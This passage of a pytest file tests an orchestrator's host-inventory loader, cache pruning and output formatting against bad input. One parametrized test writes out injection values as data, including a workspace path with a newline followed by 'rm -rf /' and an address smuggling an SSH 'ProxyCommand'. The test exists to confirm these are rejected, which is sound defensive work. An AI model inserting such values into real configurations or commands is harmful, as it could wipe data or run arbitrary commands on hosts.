        validate_contract({**contract, "allowed_paths": ["opt"]}, "c.json")


def test_an_inventory_with_a_bom_reads_and_a_fifo_is_refused(tmp_path: Path) -> None:
    import os

    from orchestrator.errors import InventoryError
    from orchestrator.hosts.inventory import load_inventory

    inv = tmp_path / "hosts.toml"
    inv.write_bytes(b'\xef\xbb\xbf[[hosts]]\nname = "a"\ntransport = "local"\n')
    assert load_inventory(inv).names == ["a"]
    fifo = tmp_path / "fifo.toml"
    os.mkfifo(fifo)
    with pytest.raises(InventoryError, match=r"fifo.toml: cannot read inventory: not a regular file"):
        load_inventory(fifo)


def test_cache_prune_never_follows_a_symlinked_cache_out_of_it(tmp_path: Path) -> None:
    """bundles/ made a link to a directory of the user's: prune refuses in one line and removes nothing."""
    from orchestrator.errors import InputError as _InputError
    from orchestrator.hosts.bundle_cache import empty_local_cache, prune_local_cache

    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "thesis.tex").write_text("years of work")
    cache = tmp_path / "crosshost" / "bundles"
    cache.parent.mkdir()
    cache.symlink_to(precious)
    with pytest.raises(_InputError, match="is a symbolic link"):
        empty_local_cache(cache)
    assert prune_local_cache(cache, max_bytes=0, max_age_s=0) == []
    assert (precious / "thesis.tex").read_text() == "years of work"


@pytest.mark.parametrize("key", ["workspace_root", "address", "user"])
def test_a_newline_in_an_inventory_field_is_one_line_naming_it(tmp_path: Path, key: str) -> None:
    from orchestrator.errors import InventoryError as _InventoryError
    from orchestrator.hosts.inventory import load_inventory

    value = {"workspace_root": "/tmp/ws\\nrm -rf /", "address": "127.0.0.1\\nProxyCommand x", "user": "root\\nx"}[key]
    fields = {"address": '"127.0.0.1"', "user": '"root"', "workspace_root": '"/tmp/ws"'}
    fields[key] = f'"{value}"'
    inventory = tmp_path / "hosts.toml"
    inventory.write_text('[[hosts]]\nname = "b"\n' + "".join(f"{k} = {v}\n" for k, v in fields.items()))
    with pytest.raises(_InventoryError) as got:
        load_inventory(inventory)
    line = str(got.value)
    assert f"host 'b': key '{key}': holds a control character (\\x0a)" in line and "\n" not in line


def test_a_newline_in_a_hosts_file_name_or_value_adds_no_line_to_explains_output() -> None:
    from orchestrator.analysis.attribution import path_line, trial_line
    from orchestrator.analysis.models import Counterfactual, PathEvidence

    forged = "/opt/flag\nlocal with box-b's LANG (unset): fail, reproduces the flip"
    shown = path_line(PathEvidence(path=forged, calls=["openat"], state={"box-b": "file\n0 bytes", "local": "absent"}))
    assert "\n" not in shown and "/opt/flag\\x0alocal with" in shown
    cf = Counterfactual(host="box-b", fact="PATH", value="/x\n/y", verdict="fail", reproduces=True)
    assert "\n" not in trial_line(cf, "local") and "/x\\x0a/y" in trial_line(cf, "local")
